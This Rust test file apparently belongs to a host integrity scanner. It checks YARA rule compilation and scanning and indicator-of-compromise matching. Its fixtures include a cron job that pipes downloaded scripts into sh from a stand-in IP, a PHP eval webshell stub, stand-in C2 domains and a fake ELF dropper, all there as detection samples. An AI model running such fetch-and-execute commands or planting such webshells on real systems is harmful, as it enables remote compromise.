//! YARA (cordon's rules, real-world-style rules with external variables, broken rules) and IOCs.

use std::path::{Path, PathBuf};

use cordon_host::Target;
use cordon_integrity::ioc::{IocSet, parse};
use cordon_integrity::scan::{ScanOptions, scan};
use cordon_integrity::yara::compile;

fn rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules")
}

fn scan_dir(
    dir: &Path,
    rules: Option<&cordon_integrity::yara::RuleSet>,
    iocs: Option<&IocSet>,
) -> cordon_integrity::scan::ScanReport {
    scan(
        &Target::offline(dir),
        rules,
        iocs,
        &ScanOptions::default(),
        &|_, _| {},
    )
    .unwrap()
}

#[test]
fn own_rules_match_every_positive_sample_and_no_negative_one() {
    let rules = compile(&[rules_dir().join("yara")]).unwrap();
    assert!(rules.problems.is_empty(), "{:?}", rules.problems);
    assert!(rules.len() >= 10, "{}", rules.len());
    let samples = rules_dir().join("yara/samples");
    let pos = scan_dir(&samples.join("positive"), Some(&rules), None);
    let mut names: Vec<String> = std::fs::read_dir(samples.join("positive"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert!(names.len() >= 10);
    for name in &names {
        let rule = name.split('.').next().unwrap();
        let hit = pos
            .findings
            .iter()
            .any(|f| f.path.as_deref() == Some(format!("/{name}").as_bytes()) && f.attrs["rule"] == rule);
        assert!(hit, "{name} not matched by {rule}: {:#?}", pos.findings);
    }
    let neg = scan_dir(&samples.join("negative"), Some(&rules), None);
    assert_eq!(neg.files, 6);
    assert!(neg.findings.is_empty(), "{:#?}", neg.findings);
}

#[test]
fn own_rules_are_quiet_on_a_clean_debian_usr_bin() {
    let rules = compile(&[rules_dir().join("yara")]).unwrap();
    let root = cordon_testkit::debian_root().unwrap();
    let opts = ScanOptions {
        starts: vec![b"/usr/bin".to_vec(), b"/etc".to_vec()],
        ..ScanOptions::default()
    };
    let r = scan(&Target::offline(&root), Some(&rules), None, &opts, &|_, _| {}).unwrap();
    assert!(r.files > 300, "{}", r.files);
    assert!(
        r.findings.is_empty(),
        "{:#?}",
        r.findings.iter().map(|f| &f.summary).collect::<Vec<_>>()
    );
}

/// Rules in the style of signature-base: external variables, several files, one of them broken.
#[test]
fn real_world_style_rules_with_externals_compile_and_scan_a_tree() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(rules.join("sub")).unwrap();
    std::fs::write(
        rules.join("gen_webshells_ext_vars.yar"),
        r#"
rule WEBSHELL_PHP_By_Extension_And_Owner {
   meta:
      description = "PHP file owned by the web server user containing eval"
      score = 70
   strings:
      $s1 = "eval(" ascii
   condition:
      extension == ".php" and owner == "www-data" and $s1
}
rule SUSP_ELF_In_Tmp_Path {
   meta:
      score = 85
   condition:
      filetype == "ELF" and filepath matches /^\/tmp\// and filename != "allowed"
}
"#,
    )
    .unwrap();
    std::fs::write(
        rules.join("sub/generic_anomalies.yar"),
        "import \"hash\"\nrule Hash_Named { condition: md5 == hash.md5(0, filesize) and filename contains \"x\" }\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("broken.yar"),
        "rule fine_one { condition: filename == \"x.txt\" }\n\nrule Broken_Rule_Here {\n  strings:\n    $a = \"x\"\n  condition:\n    $b and undefined_identifier\n}\n",
    )
    .unwrap();
    let set = compile(std::slice::from_ref(&rules)).unwrap();
    assert_eq!(set.files.len(), 2, "{:?}", set.files);
    assert_eq!(set.problems.len(), 1);
    let msg = &set.problems[0];
    assert!(msg.contains("broken.yar:7"), "{msg}");
    assert!(msg.contains("rule Broken_Rule_Here"), "{msg}");

    let tree = dir.path().join("tree");
    std::fs::create_dir_all(tree.join("var/www")).unwrap();
    std::fs::create_dir_all(tree.join("tmp")).unwrap();
    std::fs::create_dir_all(tree.join("etc")).unwrap();
    std::fs::write(
        tree.join("etc/passwd"),
        format!(
            "www-data:x:{}:33::/var/www:/bin/sh\n",
            rustix::process::getuid().as_raw()
        ),
    )
    .unwrap();
    std::fs::write(tree.join("var/www/x.php"), "<?php eval($a); ?>").unwrap();
    std::fs::write(tree.join("var/www/x.txt"), "eval(").unwrap();
    std::fs::write(tree.join("tmp/dropper"), b"\x7fELF\x02\x01\x01").unwrap();
    std::fs::write(tree.join("tmp/allowed"), b"\x7fELF\x02\x01\x01").unwrap();
    let r = scan(
        &Target::offline(&tree),
        Some(&set),
        None,
        &ScanOptions {
            skip_verified: true,
            ..ScanOptions::default()
        },
        &|_, _| {},
    )
    .unwrap();
    let mut got: Vec<(String, String)> = r
        .findings
        .iter()
        .map(|f| {
            (
                String::from_utf8_lossy(f.path.as_deref().unwrap()).into_owned(),
                f.attrs["rule"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    got.sort();
    assert_eq!(
        got,
        vec![
            ("/tmp/dropper".to_owned(), "SUSP_ELF_In_Tmp_Path".to_owned()),
            ("/var/www/x.php".to_owned(), "Hash_Named".to_owned()),
            (
                "/var/www/x.php".to_owned(),
                "WEBSHELL_PHP_By_Extension_And_Owner".to_owned()
            ),
            ("/var/www/x.txt".to_owned(), "Hash_Named".to_owned()),
            // yara-x keeps the rules of a broken file that compiled; only the broken one is left out.
            ("/var/www/x.txt".to_owned(), "fine_one".to_owned()),
        ]
    );
    let sev = |rule: &str| {
        r.findings
            .iter()
            .find(|f| f.attrs["rule"] == rule)
            .unwrap()
            .severity
    };
    assert_eq!(sev("SUSP_ELF_In_Tmp_Path"), cordon_core::Severity::High);
    assert_eq!(
        sev("WEBSHELL_PHP_By_Extension_And_Owner"),
        cordon_core::Severity::Medium
    );
}

#[test]
fn no_usable_rule_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.yar"), "rule x { condition: nope }").unwrap();
    let err = compile(&[dir.path().to_owned()]).unwrap_err().to_string();
    assert!(
        err.contains("a.yar:1: rule x: unknown identifier `nope`"),
        "{err}"
    );
    let empty = tempfile::tempdir().unwrap();
    assert!(
        compile(&[empty.path().to_owned()])
            .unwrap_err()
            .to_string()
            .contains("no .yar")
    );
}

#[test]
fn iocs_match_files_by_hash_name_path_and_content_and_skip_junk() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path();
    for d in ["etc/cron.d", "tmp/.cache", "var/log", "usr/bin", "dev/shm"] {
        std::fs::create_dir_all(tree.join(d)).unwrap();
    }
    std::fs::write(
        tree.join("etc/cron.d/job"),
        "*/5 * * * * root curl -s hxxp://x | sh; curl http://203.0.113.9/k.sh|sh\n",
    )
    .unwrap();
    std::fs::write(
        tree.join("var/log/auth.log"),
        "Accepted password for root from 198.51.100.23 port 4242\n",
    )
    .unwrap();
    std::fs::write(
        tree.join("etc/hosts"),
        "127.0.0.1 localhost\n10.0.0.1 notc2.evil.example.org\n",
    )
    .unwrap();
    std::fs::write(tree.join("etc/resolv.conf"), "search c2.evil.example\n").unwrap();
    std::fs::write(tree.join("tmp/.cache/kworker-x"), "miner").unwrap();
    std::fs::write(tree.join("usr/bin/kinsing"), "x").unwrap();
    std::fs::write(tree.join("usr/bin/empty"), "").unwrap();
    std::fs::write(tree.join("dev/shm/.x1"), "y").unwrap();
    let text = std::fs::read(rules_dir().join("ioc/example.txt")).unwrap();
    let mut text = text.clone();
    text.extend_from_slice(b"junk line with spaces\n\x00\x01binary\nip,300.1.2.3\n");
    let (iocs, bad) = parse(&text, "example.txt");
    assert_eq!(bad.len(), 3, "{bad:?}");
    assert_eq!(iocs.len(), 10);
    let set = IocSet::new(iocs).unwrap();
    let r = scan_dir(tree, None, Some(&set));
    let mut got: Vec<(String, String)> = r
        .findings
        .iter()
        .map(|f| {
            (
                String::from_utf8_lossy(f.path.as_deref().unwrap()).into_owned(),
                f.check.clone(),
            )
        })
        .collect();
    got.sort();
    let want: Vec<(String, String)> = [
        ("/dev/shm/.x1", "ioc.path"),
        ("/etc/cron.d/job", "ioc.network"),
        ("/etc/resolv.conf", "ioc.network"),
        ("/tmp/.cache/kworker-x", "ioc.path"),
        ("/usr/bin/empty", "ioc.hash"),
        ("/usr/bin/kinsing", "ioc.filename"),
        ("/var/log/auth.log", "ioc.network"),
    ]
    .iter()
    .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
    .collect();
    assert_eq!(got, want);
    let cron = r
        .findings
        .iter()
        .find(|f| f.path.as_deref() == Some(&b"/etc/cron.d/job"[..]))
        .unwrap();
    assert!(String::from_utf8_lossy(&cron.evidence).contains("203.0.113.9/k.sh"));
    assert_eq!(cron.attrs["ioc_source"], "example.txt:9");
    assert!(cron.attrs["offset"].as_u64().unwrap() > 0);
}

#[test]
fn skip_verified_skips_package_files_that_match_their_md5sums() {
    let root = cordon_testkit::debian_root().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let rule = dir.path().join("elf.yar");
    std::fs::write(&rule, "rule any_elf { condition: uint32(0) == 0x464c457f }").unwrap();
    let set = compile(&[rule]).unwrap();
    let base = ScanOptions {
        starts: vec![b"/usr/sbin".to_vec()],
        ..ScanOptions::default()
    };
    let all = scan(&Target::offline(&root), Some(&set), None, &base, &|_, _| {}).unwrap();
    let skipped = scan(
        &Target::offline(&root),
        Some(&set),
        None,
        &ScanOptions {
            skip_verified: true,
            ..base
        },
        &|_, _| {},
    )
    .unwrap();
    assert!(all.findings.len() > 20);
    assert!(
        skipped.verified_skipped as usize >= all.findings.len() - 2,
        "{} of {}",
        skipped.verified_skipped,
        all.findings.len()
    );
    assert!(skipped.findings.len() <= 2);
}
